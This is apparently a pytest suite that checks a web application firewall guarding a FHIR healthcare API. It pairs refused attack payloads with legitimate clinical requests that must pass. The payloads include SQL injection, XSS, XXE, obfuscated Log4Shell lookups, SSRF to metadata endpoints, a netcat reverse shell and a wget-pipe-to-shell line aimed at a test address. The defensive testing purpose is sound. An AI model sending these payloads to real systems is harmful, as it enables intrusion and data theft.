"""WAF-01..08 through the edge: every rule or exclusion with an attack that must be refused and a legitimate
FHIR request that must pass."""

from __future__ import annotations

import html
import json

import pytest

pytestmark = pytest.mark.host

FJ = {"Content-Type": "application/fhir+json"}
NARRATIVE = (
    '<div xmlns="http://www.w3.org/1999/xhtml"><p>Patient <b>Sean O\'Brien</b></p>'
    "<table><tr><td>MRN</td><td>12345</td></tr></table></div>"
)


def _patient(div: str = NARRATIVE, family: str = "O'Brien") -> dict:
    return {
        "resourceType": "Patient",
        "text": {"status": "generated", "div": div},
        "name": [{"family": family, "given": ["Sean"]}],
        "birthDate": "1970-01-01",
    }


def _refused(r) -> None:
    assert r.status_code in (400, 403), f"{r.status_code}: {r.text[:200]}"
    assert r.json()["resourceType"] == "OperationOutcome"
    assert "nginx" not in r.text.lower() and "modsecurity" not in r.text.lower()


# WAF-04 (CRS 942 SQL injection): an injection in a search parameter is refused; a name with an apostrophe passes
def test_sqli_in_search_parameter_refused(fhir) -> None:
    _refused(fhir.request("GET", "Patient", params={"name": "x' OR '1'='1"}))
    _refused(fhir.request("GET", "Patient", params={"name": "1 UNION SELECT username,password FROM pg_shadow--"}))


def test_apostrophe_name_passes(fhir) -> None:
    r = fhir.request("GET", "Patient", params={"name": "O'Brien"})
    assert r.status_code == 200, r.text
    r = fhir.request("GET", "Patient", params={"family:exact": "Smith-Jones", "given": "Anne-Marie"})
    assert r.status_code == 200, r.text


# WAF-04: FHIR search syntax (:modifiers, _include with ':', token system|code, prefixes) passes...
def test_fhir_search_syntax_passes(fhir) -> None:
    params = {
        "_include": "Observation:patient",
        "_revinclude": "Provenance:target",
        "code": "http://loinc.org|8480-6",
        "date": "ge2024-01-01",
        "_count": "10",
        "_sort": "-date",
    }
    assert fhir.request("GET", "Observation", params=params).status_code == 200


# ... but an injection hidden in _include is still refused
def test_sqli_in_include_refused(fhir) -> None:
    _refused(fhir.request("GET", "Observation", params={"_include": "Observation:patient' OR 1=1--"}))


# WAF-02 (body processors for FHIR media types) + CRS 941: script in a JSON field is refused
def test_xss_in_json_body_refused(fhir) -> None:
    _refused(fhir.request("POST", "Patient", json=_patient(family="<img src=x onerror=alert(1)>"), headers=FJ))


# WAF-07: a legitimate narrative passes; scripts, event handlers or javascript: URLs in it are refused
def test_legitimate_narrative_passes(fhir) -> None:
    r = fhir.request("POST", "Patient", json=_patient(), headers=FJ)
    assert r.status_code == 201, r.text
    fhir.request("DELETE", f"Patient/{r.json()['id']}")


@pytest.mark.parametrize(
    "div",
    [
        '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(document.cookie)</script></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><a href="javascript:alert(1)">x</a></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><p onmouseover="alert(1)">x</p></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://example.org"></iframe></div>',
    ],
)
def test_active_narrative_refused(fhir, div: str) -> None:
    _refused(fhir.request("POST", "Patient", json=_patient(div=div), headers=FJ))


def test_narrative_in_transaction_bundle(fhir) -> None:
    bundle = {
        "resourceType": "Bundle",
        "type": "transaction",
        "entry": [{"resource": _patient(), "request": {"method": "POST", "url": "Patient"}}],
    }
    r = fhir.request("POST", "", json=bundle, headers=FJ)
    assert r.status_code == 200, r.text
    bad = json.loads(json.dumps(bundle))
    bad["entry"][0]["resource"]["text"]["div"] = '<div xmlns="http://www.w3.org/1999/xhtml"><script>x()</script></div>'
    _refused(fhir.request("POST", "", json=bad, headers=FJ))


# WAF-08: FHIR XML: a plain narrative passes the WAF, injected markup does not
def test_xml_narrative(fhir) -> None:
    ok = (
        '<Patient xmlns="http://hl7.org/fhir"><text><status value="generated"/>'
        '<div xmlns="http://www.w3.org/1999/xhtml"><p>Mary O\'Neil</p></div></text>'
        '<name><family value="O\'Neil"/></name></Patient>'
    )
    r = fhir.request("POST", "Patient", data=ok.encode(), headers={"Content-Type": "application/fhir+xml"})
    assert r.status_code in (201, 415), r.text  # 415: XML may be disabled by the server, never refused by the WAF
    bad = ok.replace("<p>Mary O'Neil</p>", "<script>alert(1)</script>")
    _refused(fhir.request("POST", "Patient", data=bad.encode(), headers={"Content-Type": "application/fhir+xml"}))


# CRS 930 (path traversal / LFI)
def test_path_traversal_refused(fhir, origin: str) -> None:
    assert fhir.request("GET", "Binary", params={"_id": "../../../../etc/passwd"}).status_code in (400, 403)
    r = fhir.session.get(f"{origin}/fhir/Patient/..%2f..%2f..%2fetc%2fpasswd", timeout=30)
    assert r.status_code in (400, 403, 404)
    assert fhir.request("GET", "Patient/example-id/_history").status_code in (200, 404, 410)


# CRS 932 (command injection), 944 / 932130 (Log4Shell-style lookups)
def test_rce_probes_refused(fhir) -> None:
    _refused(fhir.request("GET", "Patient", params={"name": ";cat /etc/passwd"}))
    _refused(fhir.request("GET", "Patient", params={"name": "${jndi:ldap://198.18.0.1/a}"}))


# CRS 913 (scanner detection)
def test_scanner_user_agent_refused(fhir) -> None:
    _refused(fhir.request("GET", "metadata", headers={"User-Agent": "sqlmap/1.7"}))


# WAF-02 / CRS 920420: content types outside the FHIR set are refused; FHIR form search passes
def test_content_types(fhir) -> None:
    _refused(fhir.request("POST", "Patient", data=b"hello", headers={"Content-Type": "text/plain"}))
    r = fhir.request(
        "POST",
        "Patient/_search",
        data="name=O'Brien&_count=5",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert r.status_code == 200, r.text


# WAF-02: a body that is not the JSON it claims is refused by the body processor
def test_malformed_json_refused(fhir) -> None:
    _refused(fhir.request("POST", "Patient", data=b'{"resourceType": "Patient", ', headers=FJ))


# WAF-05: methods beyond FHIR's are refused
def test_trace_refused(fhir) -> None:
    assert fhir.request("TRACE", "metadata").status_code in (403, 405)


# WAF-06: bearer tokens in the query string are refused
def test_access_token_in_query_refused(fhir) -> None:
    r = fhir.request("GET", "metadata", params={"access_token": "abc.def.ghi"})
    assert r.status_code == 400


@pytest.mark.parametrize("param", ["id_token_hint", "request", "refresh_token", "client_assertion"])
def test_tokens_in_any_query_string_refused(origin, ca_cert, param: str) -> None:
    """WAF-06: an ID token hint or a request object in a URL (OpenID Connect allows a POST form instead) would be
    written to every log on the way; the edge refuses it before anything logs the request line."""
    import requests

    from fhirfort.spec import spec

    url = f"{origin}/realms/{spec().identity.realm}/protocol/openid-connect/logout"
    r = requests.get(url, params={param: "eyJhbGciOiJSUzI1NiJ9.e30.c2ln", "client_id": "x"}, verify=ca_cert, timeout=30)
    assert r.status_code == 400, r.text[:200]


# WAF-09: SMART scopes pass the token endpoint; a scope outside the scope grammar (an injection) is refused
def _token_post(origin: str, ca_cert: str, scope: str):
    import requests

    from fhirfort.spec import spec

    url = f"{origin}/realms/{spec().identity.realm}/protocol/openid-connect/token"
    data = {"grant_type": "client_credentials", "client_id": "fhirfort-backend", "scope": scope}
    return requests.post(url, data=data, verify=ca_cert, timeout=30)


def test_smart_scope_passes_the_waf(origin, ca_cert) -> None:
    r = _token_post(origin, ca_cert, "system/*.cruds system/Patient.rs patient/Observation.rs?category=laboratory")
    # Keycloak itself refuses the unauthenticated client (401/400); the point is the WAF did not (403)
    assert r.status_code in (400, 401), r.text[:200]
    assert r.headers.get("Content-Type", "").startswith("application/json")
    assert "error" in r.json() and r.json().get("resourceType") != "OperationOutcome"


def test_injection_in_scope_refused(origin, ca_cert) -> None:
    for scope in ("system/*.read' OR '1'='1", "system/*.rs;DROP TABLE client--", "openid\nadmin"):
        r = _token_post(origin, ca_cert, scope)
        assert r.status_code in (400, 403), f"{scope!r}: {r.status_code}"
        assert r.json().get("resourceType") == "OperationOutcome", f"{scope!r}: not refused by the edge"


# ---------------------------------------------------------------------------------------------------------
# Kit rules 10030-10190 (fhir-before-crs.conf) and the free-text / narrative exclusions (fhir-after-crs.conf):
# for each, attacks that must be refused by the edge and legitimate FHIR requests that must pass it.

FX = {"Content-Type": "application/fhir+xml"}


def _edge_refused(r) -> bool:
    """The edge's own refusal (its OperationOutcome carries '; request id <hex>'), not HAPI's."""
    return r.status_code in (400, 403) and "request id" in r.text


def _passes(r, ok: tuple[int, ...] = (200, 201)) -> None:
    assert not _edge_refused(r), f"refused by the edge: {r.status_code}: {r.text[:200]}"
    assert r.status_code in ok, f"{r.status_code}: {r.text[:300]}"


def _observation(value: str, note: str | None = None) -> dict:
    obs: dict = {
        "resourceType": "Observation",
        "status": "final",
        "code": {"coding": [{"system": "http://loinc.org", "code": "8302-2"}], "text": "Body height"},
        "valueString": value,
    }
    if note is not None:
        obs["note"] = [{"text": note}]
    return obs


def _create_and_delete(fhir, resource: dict, headers: dict | None = None) -> None:
    r = fhir.request("POST", resource["resourceType"], json=resource, headers=headers or FJ)
    _passes(r, (201,))
    fhir.request("DELETE", f"{resource['resourceType']}/{r.json()['id']}")


XML_PATIENT = (
    '<Patient xmlns="http://hl7.org/fhir"><meta><tag><system value="https://fhirfort.test/tags"/>'
    '<code value="waf-test"/></tag></meta><text><status value="generated"/>'
    '<div xmlns="http://www.w3.org/1999/xhtml"><p>Pat Link</p>{extra}</div></text>'
    '<name><family value="Link"/><given value="Pat"/></name>'
    '<link><other><reference value="Patient/example"/></other><type value="seealso"/></link></Patient>'
)


# WAF-08 (10120): FHIR's own meta, link and form elements pass; the same names as XHTML markup do not
def test_xml_fhir_elements_named_like_html_pass(fhir) -> None:
    r = fhir.request("POST", "Patient", data=XML_PATIENT.format(extra="").encode(), headers=FX)
    assert not _edge_refused(r), r.text[:200]
    med = (
        '<Medication xmlns="http://hl7.org/fhir"><code><text value="Amoxicillin 500 mg"/></code>'
        '<form><text value="capsule"/></form></Medication>'
    )
    assert not _edge_refused(fhir.request("POST", "Medication", data=med.encode(), headers=FX))


@pytest.mark.parametrize(
    "extra",
    [
        '<form action="https://198.51.100.7/x"><input type="password" name="pw"/></form>',
        '<link rel="stylesheet" href="https://198.51.100.7/x.css"/>',
        '<meta http-equiv="refresh" content="0;url=https://198.51.100.7/"/>',
        '<p onclick="alert(1)">x</p>',
    ],
)
def test_xml_html_markup_refused(fhir, extra: str) -> None:
    _refused(fhir.request("POST", "Patient", data=XML_PATIENT.format(extra=extra).encode(), headers=FX))


# WAF-12 (10121): DTDs, entities and XInclude in XML bodies
@pytest.mark.parametrize(
    "body",
    [
        '<?xml version="1.0"?><!DOCTYPE Patient [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<Patient xmlns="http://hl7.org/fhir"><name><family value="&xxe;"/></name></Patient>',
        '<?xml version="1.0"?><!DOCTYPE Patient SYSTEM "http://198.51.100.7/evil.dtd">'
        '<Patient xmlns="http://hl7.org/fhir"><name><family value="x"/></name></Patient>',
        '<Patient xmlns="http://hl7.org/fhir" xmlns:xi="http://www.w3.org/2001/XInclude"><name><family value="x"/>'
        '</name><xi:include parse="text" href="file:///etc/passwd"/></Patient>',
    ],
)
def test_xxe_refused(fhir, body: str) -> None:
    _refused(fhir.request("POST", "Patient", data=body.encode(), headers=FX))
    _refused(fhir.request("POST", "Patient", data=body.encode(), headers={"Content-Type": "application/xml"}))


# WAF-07 (941160 / 932130 removed for narratives): img of a contained attachment, style attributes and
# "</b> (preferred)" pass; CSS script URLs and expressions are still refused by 10110
def test_narrative_img_style_and_parenthesis_pass(fhir) -> None:
    div = (
        '<div xmlns="http://www.w3.org/1999/xhtml"><p><span style="font-weight:bold">Sean O\'Brien</span>'
        ' (preferred)</p><img src="#photo-1" alt="patient photo"/></div>'
    )
    _create_and_delete(fhir, _patient(div=div))


@pytest.mark.parametrize(
    "div",
    [
        '<div xmlns="http://www.w3.org/1999/xhtml"><p style="background:url(javascript:alert(1))">x</p></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><p style="width:expression(alert(1))">x</p></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><img src="#x" onerror="alert(1)"/></div>',
    ],
)
def test_narrative_style_script_refused(fhir, div: str) -> None:
    _refused(fhir.request("POST", "Patient", json=_patient(div=div), headers=FJ))


# WAF-16: clinical prose in valueString / note.text passes (942100/942350/932115 removed there) ...
CLINICAL = [
    "BP > 140/90 on 2 readings; select follow-up in 2 weeks",
    "Insert order: PICC line; delete old peripheral IV",
    "HbA1c 7.2% (was 8.1%); metformin 1 g bd continues",
    "Drop-in visit; union rep present at patient's request; cost US$ 40 {copay}",
    "Plan: ECG; echo booked; cat scan if worse | follow up",
]


def test_clinical_free_text_passes(fhir) -> None:
    for text in CLINICAL:
        _create_and_delete(fhir, _observation(text, note=text))
    bundle = {
        "resourceType": "Bundle",
        "type": "batch",
        "entry": [
            {"resource": _observation(t, note=t), "request": {"method": "POST", "url": "Observation"}} for t in CLINICAL
        ],
    }
    r = fhir.request("POST", "", json=bundle, headers=FJ)
    _passes(r, (200,))
    for e in r.json().get("entry", []):
        loc = e.get("response", {}).get("location", "")
        if loc.startswith("Observation/"):
            fhir.request("DELETE", "/".join(loc.split("/")[:2]))


# ... while SQL syntax there, and in names, is refused (10130)
@pytest.mark.parametrize(
    "value",
    [
        "x'); DROP TABLE hfj_resource;--",
        "'||(select version())||'",
        "x' AND pg_sleep(10) IS NULL--",
        "x'; update hfj_resource set res_deleted_at=now()--",
        "a' UNION SELECT password FROM users--",
        "1' or '1'='1",
    ],
)
def test_sql_in_free_text_refused(fhir, value: str) -> None:
    _refused(fhir.request("POST", "Observation", json=_observation("ok", note=value), headers=FJ))
    _refused(fhir.request("POST", "Observation", json=_observation(value), headers=FJ))


def test_sql_tautology_in_name_refused(fhir) -> None:
    _refused(fhir.request("POST", "Patient", json=_patient(family="O'Brien' OR '1'='1"), headers=FJ))


# WAF-13 (10140/10142): Log4Shell lookups in headers, parameters and bodies, obfuscated or not
@pytest.mark.parametrize(
    "header",
    [
        ("User-Agent", "${env:AWS_SECRET_ACCESS_KEY}"),
        ("X-Api-Version", "${jndi:ldaps://198.51.100.7/${sys:java.version}}"),
        ("Referer", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.7/a}"),
        ("X-Forwarded-For", "${jndi:ldap://198.51.100.7:1389/a}"),
    ],
)
def test_log4shell_in_headers_refused(fhir, header: tuple[str, str]) -> None:
    _refused(fhir.request("GET", "metadata", headers=dict([header])))


def test_log4shell_in_values_refused(fhir) -> None:
    _refused(fhir.request("GET", "Patient", params={"given": "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/a}"}))
    _refused(fhir.request("GET", "Patient", params={"name": "${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}"}))
    _refused(fhir.request("POST", "Observation", json=_observation("${jndi:dns://198.51.100.7/a}"), headers=FJ))


# WAF-13 (10150): template expressions; a dollar sign and braces in ordinary text pass (test above, CLINICAL)
@pytest.mark.parametrize("value", ["{{7*7}}", "#{7*7}", "<%= 7*7 %>", "*{T(java.lang.Runtime).getRuntime()}"])
def test_ssti_refused(fhir, value: str) -> None:
    _refused(fhir.request("GET", "Patient", params={"name": value}))
    _refused(fhir.request("POST", "Patient", json=_patient(family=value), headers=FJ))


def test_address_with_hash_and_ordinary_search_pass(fhir) -> None:
    p = _patient()
    p["address"] = [{"line": ["21 O'Connell St. Apt #3 {rear}"], "city": "Dún Laoghaire"}]
    _create_and_delete(fhir, p)


# WAF-14 (10170/10171): NoSQL operators as names or JSON keys; FHIR operations ($everything, $validate) pass
def test_nosql_operators_refused(fhir) -> None:
    _refused(fhir.request("GET", "Patient?name[$regex]=.*"))
    _refused(fhir.request("GET", "Patient", params={"name[$ne]": "x"}))
    bad = {"resourceType": "Patient", "name": [{"family": {"$ne": None}}]}
    _refused(fhir.request("POST", "Patient", json=bad, headers=FJ))
    empty = {"resourceType": "Patient", "name": [{"family": "x", "$or": [{}]}]}  # no ARGS leaf: raw body (10172)
    _refused(fhir.request("POST", "Patient", json=empty, headers=FJ))
    _refused(fhir.request("GET", "Patient", params={"name": "';return true;var x='"}))


def test_fhir_operations_pass(fhir) -> None:
    r = fhir.request("GET", "Patient", params={"_count": "1"})
    _passes(r, (200,))
    ids = [e["resource"]["id"] for e in r.json().get("entry", [])]
    if ids:
        # HAPI's own authorisation decides on $everything; the edge must simply let the operation through
        r = fhir.request("GET", f"Patient/{ids[0]}/$everything", params={"_count": "5"})
        assert not _edge_refused(r), r.text[:200]
    params = {"resourceType": "Parameters", "parameter": [{"name": "resource", "resource": _patient()}]}
    r = fhir.request("POST", "Patient/$validate", json=params, headers=FJ)
    assert not _edge_refused(r), r.text[:200]


# WAF-11 (10040/10041): only FHIR formats; HTML renderings are refused
@pytest.mark.parametrize("fmt", ["html", "text/html", "application/x-php", "image/svg+xml", "../../../etc/passwd"])
def test_non_fhir_format_refused(fhir, fmt: str) -> None:
    _refused(fhir.request("GET", "Patient", params={"_format": fmt, "_count": "1"}))


def test_fhir_formats_pass(fhir) -> None:
    for fmt in ("json", "xml", "application/fhir+json", "application/fhir+xml", "application/json"):
        _passes(fhir.request("GET", "Patient", params={"_format": fmt, "_count": "1"}), (200,))
    _passes(fhir.request("GET", "metadata?_format=application/fhir+json"), (200,))  # "+" arrives as a space
    _passes(fhir.request("GET", "Patient", params={"_count": "1"}, headers={"Accept": "application/fhir+xml"}), (200,))
    _passes(fhir.request("GET", "Patient", params={"_count": "1"}, headers={"Accept": "*/*"}), (200,))


def test_html_accept_refused(fhir) -> None:
    _refused(fhir.request("GET", "Patient", params={"_count": "1"}, headers={"Accept": "text/html"}))
    accept = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"  # a browser
    _refused(fhir.request("GET", "Patient", params={"_count": "1"}, headers={"Accept": accept}))
    # 10043: HTML listed after another non-FHIR type, with nothing the API could answer in
    _refused(fhir.request("GET", "Patient", params={"_count": "1"}, headers={"Accept": "image/png, text/html"}))
    # content negotiation that prefers FHIR and tolerates HTML passes
    accept = "application/fhir+json, text/html;q=0.1"
    _passes(fhir.request("GET", "Patient", params={"_count": "1"}, headers={"Accept": accept}), (200,))


# WAF-10 (10030/10031): method overrides; the real verbs pass (test_clinical_free_text_passes deletes)
def test_method_override_refused(fhir) -> None:
    for name in ("X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method"):
        _refused(fhir.request("GET", "Patient", params={"_count": "1"}, headers={name: "DELETE"}))
    _refused(fhir.request("GET", "Patient", params={"_count": "1", "_method": "DELETE"}))


# WAF-15 (10160/10161): internal hosts and non-HTTP schemes in references and search values; an absolute
# reference to an external FHIR server and code systems pass the edge
@pytest.mark.parametrize(
    "value",
    [
        "http://[::1]:5432/",
        "http://0x7f000001/",
        "http://2130706433/admin",
        "http://169.254.169.254/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/",
        "gopher://127.0.0.1:25/_HELO",
        "dict://127.0.0.1:11211/stats",
        "file:///etc/passwd",
        "ldap://198.51.100.7/a",
    ],
)
def test_ssrf_values_refused(fhir, value: str) -> None:
    _refused(fhir.request("GET", "Observation", params={"subject": value}))
    obs = _observation("x")
    obs["subject"] = {"reference": value.rstrip("/") + "/Patient/1"}
    _refused(fhir.request("POST", "Observation", json=obs, headers=FJ))


def test_ssrf_in_include_and_xml_refused(fhir) -> None:
    _refused(fhir.request("GET", "Observation", params={"_include": "Observation:subject:http://198.18.30.10:5432/"}))
    xml = (
        '<Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="x"/></code>'
        '<subject><reference value="http://169.254.169.254/latest/Patient/1"/></subject></Observation>'
    )
    _refused(fhir.request("POST", "Observation", data=xml.encode(), headers=FX))


def test_external_references_pass(fhir) -> None:
    r = fhir.request("GET", "Observation", params={"subject": "https://fhir.example.org/fhir/Patient/123"})
    assert not _edge_refused(r), r.text[:200]
    _passes(fhir.request("GET", "Observation", params={"code": "http://loinc.org|8480-6", "_count": "1"}), (200,))


# WAF-17 (10180/10190/10060/10070/10050): single-shot classes
def test_command_injection_singles_refused(fhir) -> None:
    _refused(fhir.request("GET", "Patient", params={"family": "| id"}))
    _refused(fhir.request("GET", "Observation", params={"code": "`id`"}))
    _refused(fhir.request("POST", "Observation", json=_observation("| id"), headers=FJ))
    for value in ("x; nc -e /bin/sh 198.51.100.7 4444", "x && wget example.org/x.sh", "x; sleep 10 #"):
        _refused(fhir.request("POST", "Observation", json=_observation(value), headers=FJ))


def test_token_search_with_pipe_passes(fhir) -> None:
    for code in ("|8480-6", "http://loinc.org|8480-6", "urn:ietf:bcp:47|id"):
        _passes(fhir.request("GET", "Observation", params={"code": code, "_count": "1"}), (200,))


def test_ldap_filter_refused(fhir) -> None:
    _refused(fhir.request("GET", "Encounter", params={"patient": "*()|&'"}))
    _refused(fhir.request("GET", "Patient", params={"name": "*)(uid=*))(|(uid=*"}))


def test_dot_dot_slash_slash_refused(fhir, origin: str) -> None:
    r = fhir.session.get(f"{origin}/fhir/Patient/....//....//....//etc/passwd", timeout=30)
    assert r.status_code in (400, 403, 404) and "request id" in r.text, r.text[:200]


def test_commercial_scanner_refused(fhir) -> None:
    _refused(
        fhir.request(
            "GET", "metadata", headers={"User-Agent": "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)"}
        )
    )
    _passes(
        fhir.request("GET", "metadata", headers={"User-Agent": "Mozilla/5.0 (X11; Linux x86_64) fhir-client/1.0"}),
        (200,),
    )


# WAF-13 (10150): SDC x-fhir-query (Expression.expression) embeds FHIRPath in double braces and passes; the same
# braces in any other field do not (test_ssti_refused)
def test_sdc_x_fhir_query_expression_passes(fhir) -> None:
    questionnaire = {
        "resourceType": "Questionnaire",
        "status": "draft",
        "extension": [
            {
                "url": "http://hl7.org/fhir/uv/sdc/StructureDefinition/sdc-questionnaire-itemPopulationContext",
                "valueExpression": {
                    "language": "application/x-fhir-query",
                    "expression": "Observation?subject={{%patient.id}}&code=http://loinc.org|8302-2",
                },
            }
        ],
    }
    _create_and_delete(fhir, questionnaire)


# WAF-08: FHIR XML keeps every value in an attribute (<family value="..."/>), which the XML body processor's
# XML:/* does not expose; the CRS attack rules and the kit's value rules read XML://@* as well.
def _xml_observation(value: str) -> bytes:
    v = html.escape(value, quote=True)
    return (
        '<Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="Note"/></code>'
        f'<note><text value="{v}"/></note><valueString value="{v}"/></Observation>'
    ).encode()


def _xml_patient_named(family: str) -> bytes:
    return (
        f'<Patient xmlns="http://hl7.org/fhir"><name><family value="{html.escape(family, quote=True)}"/>'
        '<given value="Sean"/></name></Patient>'
    ).encode()


@pytest.mark.parametrize(
    "family",
    [
        "x' OR '1'='1",
        "1 UNION SELECT username,password FROM pg_shadow--",
        "<script>alert(1)</script>",
        "a; wget http://198.51.100.7/x.sh | sh",
        "../../../../etc/passwd",
        "<?php system('id'); ?>",
    ],
)
def test_attack_in_xml_attribute_refused(fhir, family: str) -> None:
    _refused(fhir.request("POST", "Patient", data=_xml_patient_named(family), headers=FX))


def test_names_and_clinical_prose_in_xml_attributes_pass(fhir) -> None:
    for family in ("O'Brien", "Smith-Jones", "Müller-Lüdenscheidt"):
        assert not _edge_refused(fhir.request("POST", "Patient", data=_xml_patient_named(family), headers=FX))
    for text in CLINICAL:
        r = fhir.request("POST", "Observation", data=_xml_observation(text), headers=FX)
        assert not _edge_refused(r), (text, r.text[:200])


def test_sql_in_xml_free_text_refused(fhir) -> None:
    _refused(fhir.request("POST", "Observation", data=_xml_observation("x'); DROP TABLE hfj_resource;--"), headers=FX))
